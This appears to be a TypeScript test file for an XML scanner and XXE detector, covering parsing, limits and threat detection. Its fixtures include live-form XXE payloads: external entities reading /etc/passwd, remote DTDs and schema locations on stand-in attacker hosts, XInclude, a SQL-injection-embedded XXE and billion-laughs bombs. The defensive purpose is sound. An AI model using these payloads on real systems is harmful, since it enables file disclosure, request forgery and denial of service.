/**
 * Tests for the XML scanner (leaves, pointers, well-formedness, limits, XXE and XML bombs)
 * and for detectXxe on string values.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { DetectContext } from '../src/threats/types.js';
import { detectXxe, scanXml } from '../src/threats/xml.js';
import { assertCheap } from './threats-timing.js';

const LIMITS = { maxBytes: 1 << 20, maxDepth: 64, maxItems: 100_000 };

function scan(text: string, limits = LIMITS) {
  return scanXml(text, limits);
}

const CTX: DetectContext = { paranoia: 1, location: 'body', name: '/payload', isKey: false };

describe('scanXml leaves and pointers', () => {
  it('yields element and attribute names as keys, attribute values and text', () => {
    const r = scan('<?xml version="1.0"?><order id="7"><item sku="a1">Pen</item><item sku="b2"><name>Ink &amp; quill</name></item></order>');
    assert.equal(r.error, undefined);
    assert.equal(r.hit, undefined);
    assert.deepEqual(r.leaves, [
      { pointer: '/order', value: 'order', isKey: true },
      { pointer: '/order/@id', value: 'id', isKey: true },
      { pointer: '/order/@id', value: '7', isKey: false },
      { pointer: '/order/item', value: 'item', isKey: true },
      { pointer: '/order/item/@sku', value: 'sku', isKey: true },
      { pointer: '/order/item/@sku', value: 'a1', isKey: false },
      { pointer: '/order/item', value: 'Pen', isKey: false },
      { pointer: '/order/item[2]', value: 'item', isKey: true },
      { pointer: '/order/item[2]/@sku', value: 'sku', isKey: true },
      { pointer: '/order/item[2]/@sku', value: 'b2', isKey: false },
      { pointer: '/order/item[2]/name', value: 'name', isKey: true },
      { pointer: '/order/item[2]/name', value: 'Ink & quill', isKey: false },
    ]);
  });

  it('joins text across comments and CDATA and decodes character references', () => {
    const r = scan("<a>sel<!-- x -->ect <![CDATA[<b>&amp;</b>]]> &#x27;&#39;</a>");
    assert.equal(r.error, undefined);
    const text = r.leaves.filter((l) => !l.isKey).map((l) => l.value);
    assert.deepEqual(text, ["select <b>&amp;</b> ''"]);
  });

  it('never expands declared entities', () => {
    const r = scan('<!DOCTYPE n [<!ENTITY a "expanded">]><n>&a;</n>');
    assert.equal(r.error, undefined);
    assert.deepEqual(r.leaves.filter((l) => !l.isKey).map((l) => l.value), ['&a;']);
  });

  it('handles namespaces, self-closing tags and SOAP envelopes', () => {
    const r = scan('<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:Get xmlns:m="urn:x"><m:Id>5</m:Id><m:Flag/></m:Get></soap:Body></soap:Envelope>');
    assert.equal(r.error, undefined);
    assert.equal(r.hit, undefined);
    assert.ok(r.leaves.some((l) => l.pointer === '/soap:Envelope/soap:Body/m:Get/m:Id' && l.value === '5' && !l.isKey));
    assert.ok(r.leaves.some((l) => l.pointer === '/soap:Envelope/soap:Body/m:Get/m:Flag' && l.isKey));
  });
});

describe('scanXml well-formedness and limits', () => {
  const malformed = [
    '<a><b>x</a>',
    '<a>AT&T</a>',
    '<a x="1" x="2"/>',
    '<a/><b/>',
    'plain text',
    '<a x=1/>',
    '<a x="<"/>',
    '<a>',
    '<a><!-- open</a>',
    '<a><![CDATA[x</a>',
    '<a>x</a>trailing',
    '<a>&#0;</a>',
    '',
    '<a><?pi</a>',
    '<!DOCTYPE a [<!ENTITY x "1"><a/>',
  ];
  for (const m of malformed) {
    it(`refuses ${JSON.stringify(m)}`, () => {
      const r = scan(m);
      assert.ok(r.error, `expected an error for ${JSON.stringify(m)}`);
    });
  }
  it('enforces maxBytes', () => {
    const r = scan('<a>' + 'x'.repeat(2000) + '</a>', { maxBytes: 1000, maxDepth: 10, maxItems: 10 });
    assert.match(r.error ?? '', /too large/);
  });
  it('enforces maxDepth', () => {
    const r = scan('<a>'.repeat(20) + '</a>'.repeat(20), { maxBytes: 1e6, maxDepth: 10, maxItems: 1000 });
    assert.match(r.error ?? '', /too deep/);
    assert.equal(scan('<a>'.repeat(10) + '</a>'.repeat(10), { maxBytes: 1e6, maxDepth: 10, maxItems: 1000 }).error, undefined);
  });
  it('enforces maxItems', () => {
    const r = scan('<r>' + '<i>x</i>'.repeat(100) + '</r>', { maxBytes: 1e6, maxDepth: 10, maxItems: 50 });
    assert.match(r.error ?? '', /too many/);
  });
});

describe('scanXml XXE and bombs', () => {
  const critical: [string, string][] = [
    ['<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', 'xxe.external-entity'],
    ['<!DOCTYPE foo [<!ENTITY xxe PUBLIC "x" "http://evil.example/x">]><foo>&xxe;</foo>', 'xxe.external-entity'],
    ['<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]><foo/>', 'xxe.external-parameter-entity'],
    ['<!DOCTYPE foo [<!ENTITY % p "<!ENTITY x \'y\'>"> %p;]><foo/>', 'xxe.parameter-entity'],
    ['<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>', 'xxe.external-dtd'],
    ['<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>', 'xxe.xinclude'],
    ['<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><r/>', 'xxe.entity-recursion'],
    ['<!DOCTYPE r [<!ENTITY a "x&a;">]><r/>', 'xxe.entity-recursion'],
  ];
  for (const [doc, rule] of critical) {
    it(`finds ${rule} in ${doc.slice(0, 50)}`, () => {
      const r = scan(doc);
      assert.ok(r.hit, 'expected a hit');
      assert.equal(r.hit.category, 'xxe');
      assert.equal(r.hit.detector, rule);
      assert.equal(r.hit.paranoia, 1);
      assert.equal(r.hit.severity, 5);
    });
  }
  it('finds billion laughs by expansion size and nesting', () => {
    const lol = '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
      [1, 2, 3, 4, 5].map((k) => `<!ENTITY lol${k} "${`&lol${k === 1 ? '' : k - 1};`.repeat(10)}">`).join('') + ']><lolz>&lol5;</lolz>';
    const r = scan(lol);
    assert.equal(r.hit?.detector, 'xxe.entity-expansion');
    assert.equal(r.hit?.paranoia, 1);
    // a quadratic blow-up with one level and a long value
    const wide = '<!DOCTYPE x [<!ENTITY a "' + 'a'.repeat(5000) + '"><!ENTITY b "' + '&a;'.repeat(50) + '">]><x>&b;</x>';
    assert.equal(scan(wide).hit?.detector, 'xxe.entity-expansion');
    // a small bomb: three levels of ten (x1000 the declared text)
    const small = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "' + '&lol;'.repeat(10) + '"><!ENTITY lol3 "' + '&lol2;'.repeat(10) + '">]><lolz>&lol3;</lolz>';
    assert.equal(scan(small).hit?.detector, 'xxe.entity-expansion');
    assert.equal(scan(small).hit?.paranoia, 1);
    // composition three levels deep grows nothing: a declaration, counted at paranoia 2
    const composed = '<!DOCTYPE d [<!ENTITY company "Example Corp"><!ENTITY copy "&#169; &company;"><!ENTITY footer "&copy; 2024, all rights reserved">]><d>&footer;</d>';
    assert.equal(scan(composed).hit?.paranoia, 2);
  });
  it('counts plain entity declarations and W3C DTDs at paranoia 2', () => {
    const a = scan('<!DOCTYPE n [<!ENTITY a "hello">]><n>&a;</n>').hit;
    assert.equal(a?.paranoia, 2);
    const b = scan('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>').hit;
    assert.equal(b?.paranoia, 2);
    const c = scan('<!DOCTYPE n [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><n/>').hit;
    assert.equal(c?.paranoia, 2);
  });
  it('flags remote stylesheets and schema locations', () => {
    const s = scan('<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><a/>').hit;
    assert.equal(s?.detector, 'xxe.stylesheet-pi');
    const x = scan('<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x http://evil.example/x.xsd"/>').hit;
    assert.equal(x?.detector, 'xxe.schema-location');
    assert.ok((x?.paranoia ?? 1) > 1);
  });
  // [document, refused at paranoia 1]: schema locations an XML parser may fetch
  const XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"';
  const SCHEMA_LOCATIONS: readonly (readonly [string, boolean])[] = [
    // out-of-band probes: a schema away from its namespace's site
    [`<aai xmlns="http://a.b/" ${XSI} xsi:schemaLocation="http://a.b/ http://c5ipg3yqo8.oast.example/aai.xsd">aai</aai>`, true],
    [`<r ${XSI} xsi:schemaLocation="http://shop.example/orders https://attacker.example/o.xsd\n http://shop.example/x http://shop.example/x.xsd"/>`, true],
    // local files and non-web schemes, whatever the namespace
    [`<a ${XSI} xsi:noNamespaceSchemaLocation="file:///etc/passwd">x</a>`, true],
    [`<a ${XSI} xsi:schemaLocation="urn:x jar:http://evil.example/x.jar!/a.xsd"/>`, true],
    [`<a ${XSI} xsi:noNamespaceSchemaLocation="\\\\attacker.example\\share\\a.xsd"/>`, true],
    [`<a xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation='http://a.example/ns netdoc:///etc/hosts'/>`, true],
    // documents as they are written: schemas beside their namespaces, relative, or under a URN namespace
    [`<project xmlns="http://maven.apache.org/POM/4.0.0" ${XSI} xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd"><modelVersion>4.0.0</modelVersion></project>`, false],
    [`<beans ${XSI} xsi:schemaLocation="http://www.springframework.org/schema/beans https://www.springframework.org/schema/beans/spring-beans.xsd"/>`, false],
    [`<o xmlns="http://www.example.com/orders" ${XSI} xsi:schemaLocation="http://www.example.com/orders https://cdn.example.com/schemas/orders.xsd"/>`, false],
    [`<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" ${XSI} xsi:schemaLocation="urn:oasis:names:tc:SAML:2.0:metadata https://docs.oasis-open.org/security/saml/v2.0/saml-schema-metadata-2.0.xsd"/>`, false],
    [`<a ${XSI} xsi:noNamespaceSchemaLocation="orders.xsd"/>`, false],
    [`<ehcache ${XSI} xsi:noNamespaceSchemaLocation="http://www.ehcache.org/ehcache.xsd"/>`, false],
  ];
  for (const [doc, refused] of SCHEMA_LOCATIONS) {
    it(`${refused ? 'refuses' : 'passes'} the schema location of ${doc.slice(0, 70)}`, () => {
      for (const h of [scan(doc).hit, detectXxe(doc, doc.toLowerCase(), CTX)]) {
        const p1 = h !== undefined && h.paranoia === 1 && h.severity >= 5;
        assert.equal(p1, refused, JSON.stringify(h));
      }
    });
  }
  it('reports the threat even when the document is also malformed', () => {
    const r = scan('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;');
    assert.ok(r.error);
    assert.equal(r.hit?.detector, 'xxe.external-entity');
  });
  it('keeps a plain document clean', () => {
    const r = scan('<!DOCTYPE note><note><to>Tove</to></note>');
    assert.equal(r.error, undefined);
    assert.ok(r.hit === undefined || r.hit.paranoia > 2);
  });
});

describe('detectXxe on string values', () => {
  const attacks = [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    "x'||(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE root [ <!ENTITY % a SYSTEM \"http://evil.example/\">%a;",
    '<!ENTITY xxe SYSTEM "http://evil.example">',
    'foo!ENTITY % bar SYSTEM',
    '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></foo>',
    '<!doctype lolz [<!entity lol "lol"><!entity a "&lol;&lol;"><!entity b "&a;&a;"><!entity c "&b;&b;">]>',
  ];
  for (const a of attacks) {
    it(`finds ${a.slice(0, 60)}`, () => {
      const h = detectXxe(a, a.toLowerCase(), CTX);
      assert.ok(h && h.category === 'xxe' && h.paranoia === 1 && h.severity >= 5, JSON.stringify(h));
    });
  }
  const benign = [
    '<!DOCTYPE html><html><body>hi</body></html>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    'Entity Framework entities in C#',
    'The !ENTITY keyword declares entities in a DTD',
    '<note><to>Tove</to></note>',
    'O\'Brien <obrien@example.com>',
    'Set the xsi:schemaLocation attribute to point at your schema file (http://example.com/x.xsd).',
    'xsi:schemaLocation = file:///etc/passwd is what the attacker sent',
  ];
  for (const b of benign) {
    it(`passes ${b.slice(0, 50)}`, () => {
      const h = detectXxe(b, b.toLowerCase(), CTX);
      assert.ok(h === undefined || h.paranoia > 1, JSON.stringify(h));
    });
  }
});

describe('XML pathological inputs stay linear', () => {
  const N = 100_000;
  const cases: [string, string][] = [
    ['deep nesting', '<a>'.repeat(N / 3)],
    ['deep closed nesting', '<a>'.repeat(N / 8) + '</a>'.repeat(N / 8)],
    ['ENTITY repeated', '<!ENTITY '.repeat(N / 9)],
    ['DOCTYPE subset of entities', '<!DOCTYPE x [' + '<!ENTITY a "&a;&a;">'.repeat(N / 20) + ']><x/>'],
    ['entity chain', '<!DOCTYPE x [' + Array.from({ length: 4000 }, (_, k) => `<!ENTITY e${k} "${k ? `&e${k - 1};&e${k - 1};` : 'x'}">`).join('') + ']><x/>'],
    ['lt', '<'.repeat(N)],
    ['many attributes', '<a ' + Array.from({ length: 10_000 }, (_, k) => `b${k}="1"`).join(' ') + '/>'],
    ['many elements', '<r>' + '<i>x</i>'.repeat(N / 8) + '</r>'],
    ['amp', '<a>' + '&'.repeat(N) + '</a>'],
    ['comment openers', '<a>' + '<!--'.repeat(N / 4)],
    ['DOCTYPE openers', '<!DOCTYPE x ['.repeat(N / 13)],
  ];
  for (const [name, text] of cases) {
    it(name, () => {
      const limits = { maxBytes: 1 << 20, maxDepth: 1 << 20, maxItems: 1 << 20 };
      const both = (s: string): void => {
        scanXml(s, limits);
        detectXxe(s, s.toLowerCase(), CTX);
      };
      // Linear scans take a few ms for 100 KB; a quadratic one would take seconds. The ordinary
      // input of the same size: a document of short elements.
      const ordinary = '<r>' + '<i a="1">x y</i>'.repeat(Math.ceil(text.length / 17)) + '</r>';
      assertCheap(name, both, text, { ceilingMs: 120, ordinary, runs: 3 });
    });
  }
  it('entity chains are bombs, evaluated without expansion', () => {
    const text = '<!DOCTYPE x [' + Array.from({ length: 4000 }, (_, k) => `<!ENTITY e${k} "${k ? `&e${k - 1};&e${k - 1};` : 'x'}">`).join('') + ']><x/>';
    assert.equal(scan(text).hit?.detector, 'xxe.entity-expansion');
  });
});
